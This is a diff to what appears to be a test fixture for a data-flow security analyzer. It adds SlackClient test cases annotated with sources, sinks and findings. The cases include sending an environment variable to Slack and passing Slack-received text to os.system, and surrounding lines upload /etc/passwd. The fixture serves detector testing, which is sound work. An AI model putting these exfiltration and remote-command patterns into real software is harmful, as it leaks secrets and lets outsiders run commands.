@@ -22,6 +22,7 @@ import websockets
 import zmq
 from fleetspeak.client_connector import connector
 from slack_sdk.webhook import WebhookClient
+from slackclient import SlackClient
 
 U = "https://collector.example/u"
 
@@ -256,6 +257,18 @@ def slack_post():
 def slack_file():
     c = slack_sdk.WebClient(token="x")
     c.files_upload_v2(channel="c", file="/etc/passwd")  #~ source(FILE) f44, sink(egress.message) f44, finding(traced) f44, capability(FILES)
+
+
+def slack_old():
+    c = SlackClient("x")  #~ capability(NETWORK)
+    c.api_call("chat.postMessage", channel="c", text=os.getenv("T"))  #~ source(ENVIRONMENT) f90, sink(egress.message) f90, finding(traced) f90
+    c.api_call("chat.postMessage", channel="c", text="ping")  #~ ok
+    os.system(c.rtm_read())  #~ source(NETWORK) f91, sink(exec.command) f91, finding(traced) f91
+
+
+def slack_old_constant():
+    c = SlackClient("x")  #~ ok
+    c.rtm_read()  #~ ok
 
 
 def slack_hook():
